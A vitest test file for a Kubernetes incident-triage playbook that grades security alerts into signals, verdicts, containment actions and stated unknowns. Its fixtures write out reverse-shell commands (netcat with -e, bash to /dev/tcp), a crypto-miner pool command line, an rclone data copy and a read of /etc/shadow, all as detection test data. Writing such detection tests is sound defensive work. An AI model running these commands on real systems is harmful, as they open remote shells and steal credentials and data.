import { describe, expect, it } from 'vitest'
import type { Alert, NewAlert } from '../../domain/alert.ts'
import type { Entity } from '../../domain/entity.ts'
import type { Incident } from '../../domain/incident.ts'
import { sentenceParts } from '../../incidents/sentence-parts.ts'
import { type NormalHere, nothingKnown, usual } from '../../incidents/baseline.ts'
import { buildCaseFile, type CaseFile, type CaseParts } from '../../incidents/case-file.ts'
import { type AlertContext, noContext } from '../../incidents/context.ts'
import { unknownPosture } from '../../incidents/posture.ts'
import { minute, noon, podRecords, process_, storedAlert } from '../../test/support/records.ts'
import { playbook } from './playbook.ts'
import { judge, signalsOf } from './weigh.ts'

const { entities } = podRecords({ name: 'checkout-1' })
const stored = (kind: string, id: bigint): Entity => ({
  ...(entities.find((one) => one.kind === kind) as Entity),
  id,
  origin: 'inventory',
  sourceId: null,
  firstNs: noon,
  lastNs: noon,
})
const place = {
  container: stored('container', 1n),
  pod: stored('pod', 2n),
  workload: stored('workload', 3n),
  node: stored('node', 4n),
  inferred: false,
  how: 'the sensor gave the full container id',
}

let made = 0
const alert = (over: Partial<NewAlert>): Alert =>
  storedAlert(`alert-${(made += 1)}`, {
    eventNs: noon + BigInt(made) * 1_000_000_000n,
    container: { id: '137fd247aabd', name: 'app', image: null },
    ...over,
  })
const incident = { id: 'i', scope: 'lab', severityFloor: 'high', alertCount: 0 } as Incident
function caseOf(alerts: Alert[], over: Partial<CaseParts> = {}, context: AlertContext = place): CaseFile {
  return buildCaseFile({
    incident: { ...incident, alertCount: alerts.length },
    groups: [],
    coverage: [],
    decisions: [],
    posture: unknownPosture,
    baseline: { ...nothingKnown, sinceDay: null, rules: [] },
    inventory: { scope: 'lab', pods: 3, lastNs: noon },
    cluster: { simulated: true },
    resolved: alerts.map((one) => ({ alert: one, context })),
    total: alerts.length,
    ...over,
  })
}
const weights = (one: Alert): Record<string, string> =>
  Object.fromEntries(signalsOf(caseOf([one]).alerts).map((signal) => [signal.family.name, signal.weight]))
const to = (serverIp: string, serverPort: number): Alert['connection'] => ({
  clientIp: '10.0.0.7',
  clientPort: 40_000,
  serverIp,
  serverPort,
  protocol: 'tcp',
})
const called = (fields: Alert['fields']): Partial<NewAlert> => ({ rule: 'x', container: null, hostname: null, fields })
const sts = { 'ct.name': 'GetCallerIdentity', 'ct.src': 'sts.amazonaws.com' }
const asked = (user: string, resource: string, from: string, technique: string): Partial<NewAlert> => ({
  ...called({ 'ka.user.name': user, 'ka.target.resource': resource, 'ka.sourceips': [from], 'ka.verb': 'list' }),
  sensorSource: 'k8s_audit',
  techniques: [technique],
})
const told = async (file: CaseFile): Promise<string> =>
  (await playbook.analyse(file)).summary
    .map((claim) =>
      sentenceParts(claim.text)
        .map((part) => (part.quoted ? `“${part.text}”` : part.text))
        .join(''),
    )
    .join('\n')

describe('what one alert is a sign of', () => {
  const signs: [string, Partial<NewAlert>, Record<string, string>][] = [
    [
      'a shell that a web server started',
      { rule: 'Run shell untrusted', process: process_({ name: 'sh', parentName: 'node' }) },
      { shell: 'decisive' },
    ],
    [
      'a shell that somebody opened',
      { rule: 'Terminal shell in container', process: process_({ name: 'bash', parentName: 'containerd-shim' }) },
      { shell: 'supporting' },
    ],
    [
      'netcat with -e',
      { rule: 'Netcat Remote Code Execution in Container', process: process_({ name: 'nc', cmdline: 'nc -e /bin/sh 10.0.0.9 4444' }) },
      { 'reverse-shell': 'conclusive' },
    ],
    [
      'the same under a rule of the operator’s own',
      { rule: 'Our rule 7', process: process_({ name: 'bash', cmdline: 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1' }) },
      { 'reverse-shell': 'conclusive' },
    ],
    [
      'a shell whose input became a connection, under a rule of any name',
      {
        rule: 'x',
        fields: { 'evt.type': 'dup2' },
        connection: to('203.0.113.9', 4444),
        process: process_({ name: 'sh', parentName: 'k' }),
      },
      { 'reverse-shell': 'conclusive' },
    ],
    [
      'a program that was not in the image',
      { rule: 'x', fields: { 'proc.is_exe_upper_layer': true }, process: process_({ name: 'k', exepath: '/opt/k' }) },
      { 'dropped-binary': 'conclusive' },
    ],
    [
      'a program run from memory',
      { rule: 'Fileless execution via memfd_create', process: process_({ exepath: 'memfd:x' }) },
      { 'fileless-execution': 'conclusive' },
    ],
    [
      'a way out of the container',
      { rule: 'Detect release_agent File Container Escapes', file: '/sys/fs/cgroup/release_agent', techniques: ['T1611'] },
      { 'container-escape': 'conclusive' },
    ],
    [
      'a server that reopens its own error log',
      {
        rule: 'Modify Container Entrypoint',
        file: '/proc/self/fd/2',
        techniques: ['T1611'],
        process: process_({ name: 'httpd', parentName: 'httpd' }),
      },
      { 'container-escape': 'weak' },
    ],
    [
      'a program that speaks a miner’s protocol to a pool',
      { rule: 'x', process: process_({ name: 'k', cmdline: 'k -o stratum+tcp://203.0.113.9:3333' }), connection: to('203.0.113.9', 3333) },
      { cryptomining: 'conclusive' },
    ],
    [
      'a tool for copies that sends to the internet',
      { rule: 'x', process: process_({ name: 'rclone', cmdline: 'rclone copy /data far:' }), connection: to('203.0.113.9', 443) },
      { exfiltration: 'decisive' },
    ],
    [
      'the same to a place of the house',
      { rule: 'x outbound', process: process_({ name: 'rclone', cmdline: 'rclone copy /data near:' }), connection: to('10.0.0.9', 443) },
      { 'command-and-control': 'weak' },
    ],
    [
      'a question for the machine’s credentials',
      { rule: 'x', process: process_({ name: 'node', parentName: 'containerd-shim' }), connection: to('169.254.169.254', 80) },
      { 'metadata-service': 'supporting' },
    ],
    [
      'those credentials used from the internet',
      { ...called({ ...sts, 'ct.srcip': '203.0.113.9' }), sensorSource: 'aws_cloudtrail', techniques: ['T1552.005'] },
      { 'instance-credentials': 'decisive' },
    ],
    [
      'and from a private address',
      { ...called({ ...sts, 'ct.srcip': '10.1.2.3' }), sensorSource: 'aws_cloudtrail', techniques: ['T1552.005'] },
      { 'instance-credentials': 'supporting' },
    ],
    [
      'a call of high severity, as Falco’s own plug-in writes one that was not refused',
      { ...called({ ...sts, 'ct.error': null }), severity: 'high', tactics: ['TA0005'] },
      { 'cloud-a-covering-of-tracks': 'decisive' },
    ],
    [
      'and one that was',
      { ...called({ ...sts, 'ct.error': 'AccessDenied' }), severity: 'high', tactics: ['TA0005'] },
      { 'cloud-a-covering-of-tracks': 'supporting' },
    ],
    ['and of low severity', { ...called(sts), severity: 'low', tactics: ['TA0005'] }, { 'cloud-a-covering-of-tracks': 'weak' }],
    [
      'Secrets given to somebody without credentials, from the internet',
      asked('system:anonymous', 'secrets', '203.0.113.9', 'T1078.001'),
      { 'anonymous-access': 'conclusive' },
    ],
    ['and from within', asked('system:anonymous', 'secrets', '10.1.2.3', 'T1078.001'), { 'anonymous-access': 'supporting' }],
    [
      'a workload that gives itself rights',
      asked('system:serviceaccount:shop:cart', 'clusterrolebindings', '10.1.2.3', 'T1098.006'),
      { 'cluster-rights': 'decisive' },
    ],
    ['a person who gives rights', asked('mara', 'clusterrolebindings', '10.1.2.3', 'T1098.006'), { 'cluster-rights': 'supporting' }],
    [
      'a workload’s token used from the internet to run a command',
      asked('system:serviceaccount:ci:run', 'pods', '203.0.113.9', 'T1609'),
      { 'exec-through-api': 'decisive' },
    ],
    ['a person who runs a command', asked('mara', 'pods', '203.0.113.9', 'T1609'), { 'exec-through-api': 'supporting' }],
    [
      'the runtime that starts a container',
      {
        rule: 'Change namespace privileges via unshare',
        techniques: ['T1611'],
        process: process_({ name: 'runc:[0:PARENT]', cmdline: 'runc:[0:PARENT] init', exepath: '', parentName: null }),
      },
      { 'container-escape': 'weak' },
    ],
    [
      'a program that took its name',
      {
        rule: 'Change namespace privileges via unshare',
        techniques: ['T1611'],
        process: process_({ name: 'runc:[0:PARENT]', cmdline: 'runc:[0:PARENT] init', exepath: '/opt/x', parentName: 'sh' }),
      },
      { 'container-escape': 'supporting' },
    ],
    [
      'a rule it has no chapter for, by its priority',
      { rule: 'Zebra', priority: 'Critical', tactics: [], techniques: [] },
      { 'other-detection': 'decisive' },
    ],
  ]
  it.each(signs)('%s', (_name, over, expected) => expect(weights(alert(over))).toEqual(expected))
})

describe('what it concludes', () => {
  const dropped = (): Alert =>
    alert({ rule: 'Drop and execute new binary in container', process: process_({ name: 'k', cmdline: 'k -o x', exepath: '/tmp/k' }) })
  const opened = (): Alert =>
    alert({ rule: 'Run shell untrusted', process: process_({ name: 'sh', cmdline: 'sh -c id', parentName: 'java' }) })
  const read = (): Alert =>
    alert({
      rule: 'Read sensitive file untrusted',
      file: '/etc/shadow',
      tactics: ['TA0006'],
      techniques: ['T1555'],
      process: process_({ name: 'cat', cmdline: 'cat /etc/shadow', parentName: 'sh' }),
    })
  const verdict = (alerts: Alert[], over: Partial<CaseParts> = {}): [string, string] => {
    const file = caseOf(alerts, over)
    const { verdict: found, confidence } = judge(file, signalsOf(file.alerts))
    return [found, confidence]
  }

  it('needs a conclusive sign, or a decisive one and a second, to call it an intrusion', () => {
    expect(verdict([dropped()])).toEqual(['true_positive', 'medium'])
    expect(verdict([dropped(), read()])).toEqual(['true_positive', 'high'])
    expect(verdict([opened(), read()])).toEqual(['true_positive', 'medium'])
    expect(verdict([opened()])).toEqual(['suspicious', 'medium'])
    expect(verdict([read()])).toEqual(['suspicious', 'low'])
    expect(verdict([])).toEqual(['insufficient_data', 'low'])
  })

  it('cannot tell whose shell it was when the audit log had fallen silent before', async () => {
    const typed = (): Alert =>
      alert({ rule: 'Terminal shell', process: process_({ name: 'bash', cmdline: 'bash', parentName: 'containerd-shim', terminal: true }) })
    const audit = (minutesBefore: number) => ({
      coverage: [
        {
          name: 'audit',
          collector: 'kubernetes-audit',
          scope: 'lab',
          lastSeenAt: new Date(Number(noon / 1_000_000n) - minutesBefore * 60_000),
        },
      ],
      incident: { ...incident, firstNs: noon, alertCount: 1 },
    })
    expect(verdict([typed()], audit(180))).toEqual(['insufficient_data', 'medium'])
    expect(verdict([typed()], audit(5))).toEqual(['suspicious', 'low'])
    expect(verdict([typed()], { ...audit(180), coverage: [] })).toEqual(['suspicious', 'low'])
    // What shows an intrusion does so whoever opened the shell.
    expect(verdict([typed(), dropped()], audit(180))).toEqual(['true_positive', 'high'])
    const { unknowns, reasons } = await playbook.analyse(caseOf([typed()], audit(180)))
    expect(unknowns.at(-1)).toMatch(/Source “audit” was last heard at .*: who opened the shell is not known/)
    expect(reasons[0]?.evidence.some(({ record, id }) => record === 'coverage' && id === 'audit')).toBe(true)
  })

  it('does not judge one sign by a sensor that lost what was around it; what is clear stays clear', async () => {
    const lost = { lost: [{ hostname: 'node-1', fromNs: noon, toNs: noon + minute, dropped: 700_000n }] }
    expect(verdict([read()], lost)).toEqual(['insufficient_data', 'low'])
    expect(verdict([opened()], lost)).toEqual(['suspicious', 'medium'])
    expect(verdict([dropped(), read()], lost)).toEqual(['true_positive', 'high'])
    expect((await playbook.analyse(caseOf([read()], lost))).unknowns.join()).toMatch(/host “node-1” dropped 700000 events between/)
  })

  it('names the likely way in only for what a server started besides its own workers', async () => {
    expect(await told(caseOf([opened()]))).toMatch(/What started it, “java”, is a server program/)
    expect(
      await told(caseOf([alert({ rule: 'Modify Container Entrypoint', process: process_({ name: 'httpd', parentName: 'httpd' }) })])),
    ).not.toMatch(/server program/)
  })

  it('proposes evidence before containment, and containment only for an intrusion', async () => {
    const actions = async (file: CaseFile) => (await playbook.analyse(file)).actions.map((one) => [one.action, one.entityId])
    expect(await actions(caseOf([dropped(), read()]))).toEqual([
      ['kubernetes.collect_logs', '2'],
      ['kubernetes.isolate_pod', '2'],
    ])
    expect(await actions(caseOf([read()]))).toEqual([['kubernetes.collect_logs', '2']])
    const escape = alert({ rule: 'Detect release_agent File Container Escapes', techniques: ['T1611'] })
    expect((await actions(caseOf([escape]))).at(-1)).toEqual(['kubernetes.cordon_node', '4'])
  })

  it('says why no target can be named', async () => {
    const blocked = async (file: CaseFile) => (await playbook.analyse(file)).actions.map((one) => [one.entityId, one.blocked])
    expect(await blocked(caseOf([dropped()], { inventory: null }, noContext('no inventory record matches')))).toEqual([
      [null, expect.stringMatching(/No inventory of cluster “lab” has been collected/)],
    ])
    expect(await blocked(caseOf([dropped()], {}, noContext('several containers begin with 137fd247aabd')))).toEqual([
      [null, expect.stringMatching(/several containers begin with/)],
    ])
    expect(await blocked(caseOf([dropped()], {}, { ...place, pod: { ...place.pod, deletedNs: noon + minute } }))).toContainEqual([
      '2',
      expect.stringMatching(/no longer exists/),
    ])
    const onHost = storedAlert('host', { rule: 'Drop and execute new binary in container' })
    expect(await blocked(caseOf([onHost], {}, noContext('on the host itself')))).toEqual([
      [null, expect.stringMatching(/from a host itself/)],
    ])
  })

  it('says what was not observed, never that it is clean', async () => {
    const { unknowns } = await playbook.analyse(
      caseOf([opened()], { inventory: null, coverage: [{ name: 'falco', collector: 'falco', scope: 'lab', lastSeenAt: null }] }),
    )
    expect(unknowns).toEqual([
      expect.stringMatching(/has never been collected/),
      expect.stringMatching(/Source “falco” has never been heard/),
      expect.stringMatching(/usual here is not known/),
      expect.stringMatching(/Posture .* was not observed/),
      expect.stringMatching(/Attack steps .* were never derived/),
    ])
  })

  it('tells which process started which, in one sentence that cites them', async () => {
    const step = (pid: bigint, parentPid: bigint, cmdline: string): Alert =>
      alert({ rule: 'x', process: process_({ pid, parentPid, cmdline, parentName: 'node' }) })
    expect(await told(caseOf([step(10n, 5n, 'sh -c fetch'), step(11n, 10n, 'kworkerd'), step(12n, 11n, 'cat /etc/shadow')]))).toMatch(
      /started the next: “node” → “sh -c fetch” → “kworkerd” → “cat \/etc\/shadow”\./,
    )
  })

  it('tells what is unusual here from what was reported before, and stands on the source that was heard', async () => {
    const coverage = [{ name: 'falco', collector: 'falco', scope: 'lab', lastSeenAt: new Date(0) }]
    const watched = Array.from({ length: 31 }, (_, n) => `2026-08-${String(n + 1).padStart(2, '0')}`)
    const said = async (inCluster: number, daysHere: number, over: Partial<NormalHere> = {}) => {
      const rule = 'Run shell untrusted'
      const days = watched.slice(31 - daysHere).map((day) => ({ day, count: 20 }))
      const here = [
        {
          rule,
          place: 'Deployment shop/checkout',
          process: '/bin/sh',
          crowded: false,
          said: [],
          usual: usual(days, '2026-09-01', { watched, placeSince: '2026-08-01' }),
          ...over,
        },
      ]
      const baseline = {
        here,
        newPlaces: [],
        watchedDays: 31,
        whole: true,
        harmless: null,
        sinceDay: '2026-08-01',
        rules: [{ rule, count: inCluster, days: 2 }],
      }
      return (await playbook.analyse(caseOf([opened()], { coverage, baseline }))).unusual
    }
    const spoken = async (...counts: Parameters<typeof said>) => (await said(...counts)).map((claim) => claim.text.replaceAll(/[⟦⟧]/g, ''))
    expect(await spoken(0, 0)).toEqual([
      'Rule Run shell untrusted was not reported in this cluster before that day; its alerts go back to 2026-08-01.',
    ])
    expect(await spoken(7, 0)).toEqual([
      expect.stringMatching(
        /is known in this cluster \(7 alerts on 2 days\) but was not reported of checkout by this process before that day/,
      ),
    ])
    expect(await spoken(700, 31)).toEqual([
      expect.stringMatching(
        /everyday noise of checkout: by the same process seen 620 times on 31 of 31 days here, so by itself it says little/,
      ),
    ])
    expect(await spoken(700, 31, { process: '' })).toEqual([])
    expect(await spoken(9, 3)).toEqual([])
    expect((await said(0, 0))[0]).toMatchObject({ kind: 'absence', evidence: [{ record: 'alert' }, { record: 'coverage', id: 'falco' }] })
  })
})
